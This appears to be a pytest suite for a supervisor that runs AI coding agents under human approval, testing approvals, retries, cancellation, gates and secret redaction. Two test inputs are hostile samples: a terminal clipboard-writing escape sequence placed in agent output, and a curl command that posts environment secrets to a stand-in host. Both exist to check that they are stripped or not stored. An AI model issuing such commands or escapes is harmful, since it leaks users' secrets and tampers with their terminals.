"""The supervisor end to end: a real store, real git, agents that do what the test says."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Protocol

import pytest

from app.agents.protocol import TurnDone
from app.domain import commands as cmd
from app.domain import events as ev
from app.domain.approval import Action, ApprovalState, Scope, Settlement
from app.domain.base import ApprovalId, Clock, RunId
from app.domain.errors import NotFound, OwnershipError, Refused
from app.domain.feed import Committed, Ended, Snapshot
from app.domain.request import Risk
from app.domain.run import AttemptState, Failure, FailureKind, RunState
from app.domain.session import ChunkKind, Continuity
from app.domain.task_state import TaskState
from app.engine.supervisor import Supervisor
from app.store.lock import StoreBusy
from tests.support.hand_clock import HandClock
from tests.support.puppet import CONFIG, Puppet, PuppetDriver, a_project, git
from tests.support.runs import start, until
from tests.support.story import ADA
from tests.support.waiting import PATIENCE

PUSH = "git push origin main"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return a_project(tmp_path / "project")


class Opener(Protocol):
    async def __call__(self, clock: Clock | None = None) -> Supervisor: ...


@pytest.fixture
async def opened(tmp_path: Path, driver: PuppetDriver) -> AsyncIterator[Opener]:
    """Opens supervisors on one store; those that are left are closed."""
    made: list[Supervisor] = []

    async def opener(clock: Clock | None = None) -> Supervisor:
        drivers = {"scripted": driver}
        supervisor = await Supervisor.open(tmp_path / "store", drivers=drivers, clock=clock)
        made.append(supervisor)
        return supervisor

    yield opener
    for supervisor in made:
        await supervisor.close()


async def eventually(true: Callable[[], bool]) -> None:
    async with asyncio.timeout(PATIENCE):
        while not true():  # noqa: ASYNC110
            await asyncio.sleep(0.01)


def in_state(*states: TaskState) -> Callable[[RunState], bool]:
    return lambda state: state.run.state in states


def asked(state: RunState) -> bool:
    return any(a.state.needs_person for a in state.approvals.values())


def only(state: RunState) -> tuple[ApprovalId, int]:
    (approval,) = state.approvals.values()
    return approval.approval_id, approval.revision


def answer(state: RunState, action: Action = Action.ALLOW, **more: object) -> cmd.DecideApproval:
    approval_id, revision = only(state)
    values = {"approval_id": approval_id, "revision": revision, "action": action, "by": ADA}
    return cmd.DecideApproval.model_validate({**values, **more})


async def pending(
    supervisor: Supervisor, run_id: RunId, puppet: Puppet, command: str = PUSH
) -> RunState:
    puppet.ask(command)
    return await until(supervisor, run_id, asked)


async def test_a_run_ends_with_its_work_on_a_branch(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    assert "make it so" in puppet.prompts[0].text
    workspace = Path(puppet.spec.workspace)
    assert workspace != project and (workspace / "a.txt").read_text() == "one\n"
    (workspace / "b.txt").write_text("two\n")
    puppet.done("wrote b")
    state = await until(supervisor, run_id, in_state(TaskState.DONE))
    (attempt,) = state.attempts.values()
    assert (attempt.output, attempt.state) == ("wrote b", AttemptState.PASSED)
    assert "+two" in await supervisor.diff(run_id)
    (session,) = state.sessions.values()
    assert session.git_branch is not None
    assert git(project, "show", f"{session.git_branch}:b.txt") == "two\n"
    assert not (project / "b.txt").exists()
    await eventually(lambda: not workspace.exists())
    assert (await supervisor.verify()).ok


async def test_an_answer_reaches_the_agent_and_its_outcome_the_journal(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    state = await pending(supervisor, run_id, puppet)
    (approval,) = await supervisor.approvals()
    assert approval.risk.rank >= Risk.HIGH.rank and approval.call.command == PUSH
    await supervisor.execute(answer(state))
    assert puppet.answers == [("c1", puppet.answers[0][1])]
    assert puppet.answers[0][1].action is Action.ALLOW
    puppet.finish_call()
    state = await until(
        supervisor,
        run_id,
        lambda s: next(iter(s.approvals.values())).state is ApprovalState.EXECUTED,
    )
    assert await supervisor.approvals() == []


async def test_a_stale_or_second_answer_is_refused_and_changes_nothing(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    state = await pending(supervisor, run_id, puppet)
    with pytest.raises(Refused, match="changed meanwhile"):
        await supervisor.execute(answer(state, revision=7))
    assert puppet.answers == []
    await supervisor.execute(answer(state, Action.DENY, reason="no"))
    with pytest.raises(Refused, match="denied already by ada"):
        await supervisor.execute(answer(state))
    assert [a.reason for _, a in puppet.answers] == ["no"]
    with pytest.raises(NotFound):
        await supervisor.execute(answer(state, approval_id="ap-none"))


async def test_three_denials_in_a_row_stop_the_turn_and_ask(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    for number in range(3):
        puppet.ask(f"git push origin v{number}", f"c{number}")
        state = await until(supervisor, run_id, asked)
        approval = next(a for a in state.approvals.values() if a.state.needs_person)
        deny = cmd.DecideApproval(
            approval_id=approval.approval_id,
            revision=approval.revision,
            action=Action.DENY,
            reason="no",
            by=ADA,
        )
        await supervisor.execute(deny)
    assert [a.interrupt for _, a in puppet.answers] == [False, False, True]
    await puppet.interrupt()
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert state.run.blocked is not None and state.run.blocked.kind == "interrupted"


async def test_always_writes_a_rule_that_answers_the_next_one(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    state = await pending(supervisor, run_id, puppet, "make deploy-docs")
    await supervisor.execute(answer(state, scope=Scope.ALWAYS))
    (rule,) = await supervisor.rules()
    assert rule.rule.match.command_exact == "make deploy-docs"
    puppet.finish_call()
    puppet.answered.clear()
    puppet.ask("make deploy-docs", "c2")
    async with asyncio.timeout(PATIENCE):
        await puppet.answered.wait()
    state = await supervisor.run(run_id)
    decided = [a.decision.by.kind for a in state.approvals.values() if a.decision]
    assert decided == ["person", "rule"]
    await supervisor.execute(cmd.RemoveRule(rule_id=rule.rule_id, by=ADA))
    assert await supervisor.rules() == []


async def test_an_agent_that_dies_is_resumed_and_its_question_is_the_same_one(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    first = await driver.session(1)
    before = await pending(supervisor, run_id, first)
    first.die()
    second = await driver.session(2)
    assert second.continuity is Continuity.RESUMED
    assert second.prompts[0].again and second.prompts[0].turn == 1
    second.ask(PUSH, "other-id")
    state = await until(
        supervisor,
        run_id,
        lambda s: next(iter(s.approvals.values())).call.call_id == "other-id",
    )
    assert only(state) == only(before)
    await supervisor.execute(answer(before))
    assert [call for call, _ in second.answers] == ["other-id"]


async def test_an_agent_that_keeps_dying_blocks_the_run_and_retry_goes_on(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    for number in range(1, 4):
        (await driver.session(number)).die()
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert state.run.reason == "the agent's pipe broke"
    await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))
    (await driver.session(4)).done()
    state = await until(supervisor, run_id, in_state(TaskState.DONE))
    assert [a.attempt for a in state.attempts.values()] == [1, 2]
    with pytest.raises(Refused, match="only a blocked or failed run"):
        await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))


async def test_a_permitted_call_without_outcome_is_a_question_and_not_repeated(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    await supervisor.execute(answer(await pending(supervisor, run_id, puppet)))
    puppet.die()
    state = await until(supervisor, run_id, asked)
    (approval,) = state.approvals.values()
    assert approval.state is ApprovalState.UNCERTAIN
    await asyncio.sleep(0.1)
    assert len(driver.sessions) == 1, "nothing goes on while the question is open"
    settle = cmd.SettleApproval(
        approval_id=approval.approval_id,
        revision=approval.revision,
        settlement=Settlement.TREAT_AS_DONE,
        by=ADA,
    )
    await supervisor.execute(settle)
    second = await driver.session(2)
    assert [s.fate for s in second.prompts[0].settled] == ["done"]
    assert PUSH in second.prompts[0].text
    second.ask(PUSH, "again")
    async with asyncio.timeout(PATIENCE):
        await second.answered.wait()
    assert second.answers[0][1].action is Action.DENY, "done means done"


async def test_a_decision_made_with_nobody_there_is_told_after_the_restart(
    opened: Opener, driver: PuppetDriver, project: Path, tmp_path: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    state = await pending(supervisor, run_id, await driver.session(1))
    await supervisor.close()
    offline = await Supervisor.open(tmp_path / "store", run=False, drivers={"scripted": driver})
    await offline.execute(answer(state))
    state = await offline.run(run_id)
    assert next(iter(state.approvals.values())).state is ApprovalState.APPROVED
    await offline.close()
    again = await opened()
    second = await driver.session(2)
    second.ask(PUSH, "c9")
    async with asyncio.timeout(PATIENCE):
        await second.answered.wait()
    assert [(c, a.action) for c, a in second.answers] == [("c9", Action.ALLOW)]
    assert len((await again.run(run_id)).approvals) == 1


async def test_cancel_ends_the_agent_and_is_final(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    state = await pending(supervisor, run_id, puppet)
    await supervisor.execute(cmd.CancelRun(run_id=run_id, reason="wrong idea", by=ADA))
    assert puppet.closed
    after = await supervisor.run(run_id)
    assert (after.run.state, after.run.reason) == (TaskState.CANCELED, "wrong idea")
    assert next(iter(after.approvals.values())).state is ApprovalState.WITHDRAWN
    with pytest.raises(Refused):
        await supervisor.execute(answer(state))
    with pytest.raises(Refused, match="canceled already"):
        await supervisor.execute(cmd.CancelRun(run_id=run_id, by=ADA))


async def test_a_missing_agent_blocks_with_its_sentence(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    driver.refuse = "codex was not found: npm install -g @openai/codex"
    supervisor = await opened()
    run_id = await start(supervisor, project)
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert state.run.reason == driver.refuse
    driver.refuse = ""
    await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))
    (await driver.session(1)).done()
    await until(supervisor, run_id, in_state(TaskState.DONE))


async def test_the_feed_is_a_snapshot_and_then_every_event_without_gaps(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    seen: list[int] = []
    first: list[Snapshot] = []

    async def read() -> None:
        async for item in supervisor.feed():
            if isinstance(item, Snapshot):
                first.append(item)
            elif isinstance(item, Committed):
                seen.extend(event.seq for event in item.events)
            elif isinstance(item, Ended):
                return

    reader = asyncio.create_task(read())
    (await driver.session(1)).done()
    await until(supervisor, run_id, in_state(TaskState.DONE))
    await supervisor.close()
    await asyncio.wait_for(reader, PATIENCE)
    assert [state.run.run_id for state in first[0].runs] == [run_id]
    assert seen == list(range(first[0].seq + 1, first[0].seq + 1 + len(seen)))
    assert seen


async def test_transcripts_are_printable_and_only_their_owners(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    from app.agents.protocol import ItemDone, TextDelta

    supervisor = await opened()
    run_id, other = await start(supervisor, project), await start(supervisor, project)
    puppet = await driver.session(1)
    puppet.events.put_nowait(TextDelta("m1", ChunkKind.MESSAGE, "hello \x1b]52;c;ZXZpbA==\x07"))
    puppet.events.put_nowait(ItemDone("m1", ChunkKind.MESSAGE, "hello"))
    puppet.done()
    (await driver.session(2)).done()
    for each in (run_id, other):
        await until(supervisor, each, in_state(TaskState.DONE))
    owner, stranger = (run_id, other)
    session = next(iter((await supervisor.run(owner)).sessions))
    if session != puppet.spec.session_id:
        owner, stranger = stranger, owner
        session = next(iter((await supervisor.run(owner)).sessions))
    chunks = await supervisor.transcript(owner, session)
    text = "".join(chunk.text for chunk in chunks)
    assert "hello" in text and "\x1b" not in text and "\x07" not in text
    with pytest.raises(OwnershipError):
        await supervisor.transcript(stranger, session)
    items = [e.payload for e in await supervisor.events(owner)]
    assert [i.item_id for i in items if isinstance(i, ev.ItemFinished)] == ["m1"]


async def test_one_supervisor_per_store(opened: Opener, tmp_path: Path) -> None:
    await opened()
    with pytest.raises(StoreBusy, match="held by process"):
        await Supervisor.open(tmp_path / "store", drivers={})


async def test_steering_reaches_an_agent_at_work_only(
    opened: Opener, driver: PuppetDriver, project: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, project)
    puppet = await driver.session(1)
    session = next(iter((await supervisor.run(run_id)).sessions))
    steer = cmd.SteerSession(run_id=run_id, session_id=session, text="mind the tests", by=ADA)
    await supervisor.execute(steer)
    assert puppet.steered == ["mind the tests"]
    puppet.done()
    await until(supervisor, run_id, in_state(TaskState.DONE))
    with pytest.raises(Refused):
        await supervisor.execute(steer)


async def test_a_project_without_configuration_starts_nothing(
    opened: Opener, tmp_path: Path
) -> None:
    supervisor = await opened()
    with pytest.raises(Exception, match="not a git repository"):
        await start(supervisor, tmp_path)
    assert await supervisor.runs() == []


SHORT = """
name = "change"

[[step]]
name = "work"
agent = "coder"
prompt = "Do this: {{ request.text }}"
timeout_seconds = 1
"""


async def test_a_turn_without_result_is_stopped_and_the_run_asks(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=SHORT))
    await driver.session(1)
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert "no result within 1 s of work" in state.run.reason


async def test_waiting_for_a_person_uses_up_no_time(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    clock = HandClock()
    supervisor = await opened(clock)
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=SHORT))
    puppet = await driver.session(1)
    state = await pending(supervisor, run_id, puppet)
    await clock.next(3)
    await clock.all_asleep()
    assert (await supervisor.run(run_id)).run.state is TaskState.IN_PROGRESS
    await supervisor.execute(answer(state))
    puppet.finish_call()
    puppet.done()
    await until(supervisor, run_id, in_state(TaskState.DONE))


LITTERING = """
name = "change"

[[step]]
name = "work"
agent = "coder"
prompt = "Do this: {{ request.text }}"

[[step.gate]]
name = "check"
shell = "touch litter.txt; echo spoilt >> a.txt; test -e good.txt"
"""


async def test_what_a_gate_leaves_behind_is_not_part_of_the_work(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=LITTERING))
    puppet = await driver.session(1)
    workspace = Path(puppet.spec.workspace)
    (workspace / "first.txt").write_text("1\n")
    puppet.done()
    async with asyncio.timeout(PATIENCE):
        await puppet.prompted.wait()
    assert not (workspace / "litter.txt").exists()
    assert (workspace / "a.txt").read_text() == "one\n"
    assert (workspace / "first.txt").read_text() == "1\n"
    (workspace / "good.txt").write_text("2\n")
    puppet.done()
    await until(supervisor, run_id, in_state(TaskState.DONE))
    diff = await supervisor.diff(run_id)
    assert "good.txt" in diff and "litter" not in diff and "spoilt" not in diff


RETRYING = """
name = "change"

[[step]]
name = "work"
agent = "coder"
prompt = "Do this: {{ request.text }}"
retry = { max_retries = 2, delay_seconds = 0.2 }
"""


def limited() -> TurnDone:
    failure = Failure(kind=FailureKind.RATE_LIMIT, message="429: too many requests")
    return TurnDone("failed", failure=failure)


async def test_a_rate_limit_is_waited_out_and_then_put_to_a_person(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=RETRYING))
    for _ in range(3):
        puppet = await driver.session(1)
        puppet.events.put_nowait(limited())
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert state.run.reason == "429: too many requests"
    attempts = list(state.attempts.values())
    assert [a.tries for a in attempts] == [0, 1, 2]
    assert [a.cause for a in attempts] == ["first", "retry", "retry"]
    await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))
    (await driver.session(2)).done()
    state = await until(supervisor, run_id, in_state(TaskState.DONE))
    assert list(state.attempts.values())[-1].tries == 0


async def test_a_person_need_not_wait_for_the_next_try(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    slow = RETRYING.replace("0.2", "600")
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=slow))
    puppet = await driver.session(1)
    puppet.events.put_nowait(limited())
    await until(supervisor, run_id, lambda s: any(a.retry_in for a in s.attempts.values()))
    await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))
    await driver.session(1)
    puppet.done()
    state = await until(supervisor, run_id, in_state(TaskState.DONE))
    assert [a.cause for a in state.attempts.values()] == ["first", "retry"]


async def test_a_gate_that_cannot_start_asks_the_person_not_the_agent(
    opened: Opener, driver: PuppetDriver, tmp_path: Path
) -> None:
    tool = tmp_path / "tool"
    workflow = LITTERING.replace(
        'shell = "touch litter.txt; echo spoilt >> a.txt; test -e good.txt"',
        f'command = ["{tool}"]',
    )
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", workflow=workflow))
    (await driver.session(1)).done()
    state = await until(supervisor, run_id, in_state(TaskState.BLOCKED))
    assert state.run.blocked is not None and state.run.blocked.kind == "gate_start"
    assert str(tool) in state.run.blocked.message
    tool.write_text("#!/bin/sh\nexit 0\n")
    tool.chmod(0o755)
    await supervisor.execute(cmd.RetryRun(run_id=run_id, by=ADA))
    state = await until(supervisor, run_id, in_state(TaskState.DONE))
    assert len(state.attempts) == 1, "the agent was not prompted again"


async def test_finished_runs_leave_memory_but_can_be_read(
    opened: Opener, driver: PuppetDriver, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.store.journal._FINISHED_IN_MEMORY", 2)
    supervisor = await opened()
    finished = []
    for number in range(1, 5):
        run_id = await start(supervisor, project)
        (await driver.session(number)).done(f"result {number}")
        await until(supervisor, run_id, in_state(TaskState.DONE))
        finished.append(run_id)
    async for item in supervisor.feed():
        assert isinstance(item, Snapshot)
        assert [s.run.run_id for s in item.runs] == finished[2:]
        break
    first = await supervisor.run(finished[0])
    assert next(iter(first.attempts.values())).output == "result 1"
    assert len(await supervisor.runs()) == 4
    assert (await supervisor.recipe(finished[0])).workflow.name == "change"
    with pytest.raises(NotFound):
        await supervisor.execute(cmd.CancelRun(run_id=finished[0], by=ADA))


async def test_secrets_that_a_configuration_names_are_not_kept(
    opened: Opener, driver: PuppetDriver, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.agents.protocol import TextDelta

    monkeypatch.setenv("DEPLOY_PHRASE", "correct-horse-battery")
    monkeypatch.setenv("SOME_API_KEY", "kept-in-the-environment")
    config = CONFIG.replace('name = "coder"', 'name = "coder"\nenv = ["DEPLOY_PHRASE"]', 1)
    supervisor = await opened()
    run_id = await start(supervisor, a_project(tmp_path / "project", config=config))
    puppet = await driver.session(1)
    assert puppet.spec.env["DEPLOY_PHRASE"] == "correct-horse-battery"
    assert "SOME_API_KEY" not in puppet.spec.env
    said = "it is correct-horse-battery and kept-in-the-environment"
    puppet.events.put_nowait(TextDelta("m", ChunkKind.MESSAGE, said))
    puppet.ask(f"curl -d '{said}' http://example.invalid")
    await until(supervisor, run_id, asked)
    puppet.done(said)
    await until(supervisor, run_id, in_state(TaskState.DONE))
    await supervisor.close()
    for path in (tmp_path / "store").glob("longwatch.db*"):
        data = path.read_bytes()
        assert b"correct-horse" not in data and b"kept-in-the-environment" not in data
